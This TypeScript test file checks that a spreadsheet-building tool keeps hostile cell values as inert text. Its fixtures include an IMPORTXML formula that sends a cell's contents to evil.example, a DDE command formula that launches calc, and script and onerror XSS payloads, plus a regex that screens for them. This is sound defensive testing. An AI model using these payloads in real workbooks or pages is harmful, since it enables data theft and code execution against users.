import { describe, expect, it } from 'vitest';
import { Office } from './office';

/**
 * Cells that want to be more than text. Whatever a source cell holds, in every generated sheet, note and tab name it is the
 * same text again: nothing is calculated, nothing is cut, nothing becomes markup.
 */
const hostile: readonly (readonly [string, string])[] = [
  ['a formula', '=HYPERLINK("http://evil.example","押す")'],
  ['a formula with a call', '=IMPORTXML("http://evil.example/?"&A1,"//a")'],
  ['a plus', '+81-3-0000-0000'],
  ['a minus', '-1+1'],
  ['an at sign', '@SUM(A1:A9)'],
  ['full-width signs', '＝ＳＵＭ（Ａ１）'],
  ['a command for another office', "=cmd|'/c calc'!A1"],
  ['an apostrophe', "'=1+1"],
  ['a tab', '\t=1+1'],
  ['a line break', '一行目\n=1+1'],
  ['a closing script', '</script><script>alert(1)</script>'],
  ['markup', '<img src=x onerror=alert(1)>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder as text is what is tried
  ['a template', '<?= 1 ?>${1}{{1}}'],
  ['right to left', '\u202e進捗\u202c\u200f'],
  ['a day', '5-15'],
  ['a truth', 'TRUE'],
  ['leading zeros', '0012'],
  ['a percentage', '100%'],
  ['a very long text', `${'長い名前の事業'.repeat(40)}`],
];

/** Readers join lines and trim; what a cell says is the same. */
function bare(text: string): string {
  return text.replace(/^'/, '').replace(/\s/g, '');
}

const sheet = '=悪い名前の表';
const header = ['施策', '事業名', '主管課', '指標', '単位', 'R5目標', 'R5実績'];

function office(): Office {
  const made = new Office();
  made.person.renameSheet('シート1', sheet);
  made.person.fill(
    sheet,
    1,
    1,
    [
      header,
      ...hostile.map(([, text], index) => [
        `1-${index + 1} 施策`,
        text,
        '情報政策課',
        `指標${index + 1}`,
        '件',
        '10',
        '5',
      ]),
    ].map((line) => line.map((text) => `'${text}`)),
  );
  return made;
}

describe('hostile cells', () => {
  const city = office();
  city.write('build', [sheet]);
  const { book } = city.standIn;

  it.each(hostile)('%s stays text in every generated sheet', (_what, text) => {
    const found: string[] = [];
    for (const [index, { name }] of book.model.getWorksheetsProperties().entries()) {
      if (name === sheet || name.startsWith('_')) continue;
      for (let column = 1; column <= 40; column++) {
        for (const row of book.model.getRowsWithData(index, column)) {
          const content = book.model.getCellContent(index, row, column);
          if (bare(content) !== bare(text)) continue;
          // A formula would carry its own words only where it is one.
          if (content.startsWith('=')) expect(book.model.getCellType(index, row, column), `${name} ${content}`).toBe(2);
          expect(book.model.getFormattedCellValue(index, row, column).startsWith('#')).toBe(false);
          found.push(name);
        }
      }
    }
    expect(found).toContain('事業');
  });

  it('no formula of the workbook carries a word of the source', () => {
    for (const [index, { name }] of book.model.getWorksheetsProperties().entries()) {
      if (name === sheet) continue;
      for (let column = 1; column <= 60; column++) {
        for (const row of book.model.getRowsWithData(index, column)) {
          if (book.model.getCellType(index, row, column) === 2) continue;
          expect(book.model.getCellContent(index, row, column)).not.toMatch(/evil|calc'|onerror|IMPORTXML/);
        }
      }
    }
  });

  it('a refresh finds every one of them as it left it', () => {
    const preview = city.want('preview', { sheets: [sheet] });
    expect(preview.totals).toMatchObject({ added: 0, changed: 0, gone: 0 });
    expect(preview.sheets.filter((one) => one.action !== 'unchanged')).toEqual([]);
  });

  it('a cell as long as Google allows breaks nothing, and is accounted for', () => {
    const long = office();
    long.person.type(sheet, 3, 2, `'${'あ'.repeat(49_990)}`);
    const report = long.want('readSheets', { sheets: [sheet] });
    expect(report.coverage.read + report.coverage.decoration + report.coverage.unread.length).toBe(
      report.coverage.cells,
    );
    expect(long.write('build', [sheet]).state).toBe('done');
  });

  it('notes are plain text', () => {
    for (const side of book.sides.values()) {
      for (const note of Object.values(side.notes)) expect(note).not.toMatch(/<script|^=/);
    }
  });

  it('the snapshot carries them as words', () => {
    const { json } = city.want('saveSnapshot', {});
    const { plan } = JSON.parse(json) as { plan: { initiatives: { name: string }[] } };
    const names = plan.initiatives.map(({ name }) => name);
    for (const text of [
      '=HYPERLINK("http://evil.example","押す")',
      '</script><script>alert(1)</script>',
      '@SUM(A1:A9)',
    ]) {
      expect(names).toContain(text);
    }
  });
});
